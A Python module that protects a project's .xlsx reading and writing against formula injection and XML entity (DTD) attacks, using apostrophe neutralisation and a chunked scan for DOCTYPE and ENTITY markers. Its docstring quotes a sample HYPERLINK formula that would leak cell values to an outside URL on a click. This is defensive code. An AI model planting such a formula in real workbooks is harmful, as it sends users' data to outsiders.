"""Spreadsheet safety, in and out, for every reader and writer of .xlsx in planwatch.

Out: text a person typed (a unit's source or note, a plan's wording) must never become a live
formula in a workbook someone else opens — `=HYPERLINK("http://…?leak="&B5,…)` would send the
sheet's figures away on a click. `text_cell` stores it as a string with a leading = + - @ tab
or CR neutralised by an apostrophe (OWASP's CSV/formula-injection rule), and the cell's type is
forced to string so openpyxl never writes a <f> element for it.

In: an uploaded workbook's XML parts must carry no DTD or entity declarations (billion laughs,
external entities). defusedxml (a dependency; openpyxl parses through it when installed) refuses
entities while parsing; `check_xml_parts` refuses any DTD up front, before a byte is parsed,
with a Chinese message the caller turns into its own error.
"""

from __future__ import annotations

import zipfile

from openpyxl.cell.cell import TYPE_STRING

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
UNSAFE_XML = "文件含有 XML 文档类型或实体声明（DTD/ENTITY），可能被用于攻击，已拒绝；请使用本系统下载的模板或另存为普通 .xlsx"
_MARKERS = tuple(
    m.encode(enc) for m in ("<!DOCTYPE", "<!ENTITY") for enc in ("utf-8", "utf-16-le", "utf-16-be")
)
_CHUNK = 1 << 20


class UnsafeWorkbook(ValueError):
    """An uploaded workbook refused for its XML (one line of Chinese)."""

    def __init__(self) -> None:
        super().__init__(UNSAFE_XML)


def neutral(text: str) -> str:
    """User text as a spreadsheet shows it but never evaluates it."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def text_cell(cell, value) -> None:
    """Put a value into `cell`; text as a plain string, never a formula."""
    if not isinstance(value, str) or value == "":
        cell.value = value  # numbers and empties as they are
        return
    cell.value = neutral(value)
    cell.data_type = TYPE_STRING


def stored_text(value):
    """An uploaded cell's value as planwatch stores it: formula-like text kept as neutral text."""
    return neutral(value) if isinstance(value, str) else value


def check_xml_parts(archive: zipfile.ZipFile) -> None:
    """Refuse a workbook any of whose XML parts declares a DTD or entities."""
    for info in archive.infolist():
        if not info.filename.endswith((".xml", ".rels", ".vml")):
            continue
        with archive.open(info) as part:
            tail = b""
            while chunk := part.read(_CHUNK):
                window = tail + chunk
                if any(marker in window for marker in _MARKERS):
                    raise UnsafeWorkbook()
                tail = window[-32:]
